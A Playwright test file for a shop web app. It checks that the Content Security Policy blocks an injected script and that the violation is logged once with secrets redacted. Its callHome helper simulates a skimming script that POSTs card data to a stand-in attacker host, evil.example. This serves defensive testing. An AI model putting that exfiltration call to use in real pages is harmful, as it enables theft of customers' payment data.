import type { Page } from "@playwright/test";
import { readSecurityLog } from "./support/shopkeeper";
import { expect, test } from "./support/test";

const NO_ORDER = `/orders/${"aBc4".repeat(10)}aBc`;

test.use({ expectedErrors: ["Content Security Policy", "404 (Not Found)"] });

/** What a script does that somebody smuggled in. */
function callHome(page: Page): Promise<void> {
  return page.evaluate(async () => {
    await fetch("https://evil.example/collect?card=secret", { method: "POST" }).catch(() => undefined);
  });
}

for (const [path, form] of [
  ["/cart?from=secret", "/cart"],
  [NO_ORDER, "/orders/*"],
]) {
  test(`what the policy of ${form} refuses is one line of the log, without anybody's secret`, async ({
    page,
    extraHTTPHeaders,
  }) => {
    const network = extraHTTPHeaders?.["X-Forwarded-For"] ?? "";
    await page.goto(path ?? "");
    const reported = page.waitForResponse(/\/api\/csp-reports$/);
    await callHome(page);
    expect((await reported).status()).toBe(204);
    await expect.poll(() => readSecurityLog(network)).not.toEqual([]);
    const lines = await readSecurityLog(network);
    expect(lines).toMatchObject([
      {
        security: "csp_violation",
        requestId: expect.stringMatching(/^[0-9a-f-]{36}$/),
        violations: [
          {
            directive: "connect-src",
            blocked: "https://evil.example",
            page: form,
            disposition: "enforce",
            count: 1,
          },
        ],
        unlisted: 0,
      },
    ]);
    expect(JSON.stringify(lines)).not.toMatch(/secret|aBc4/);
  });
}
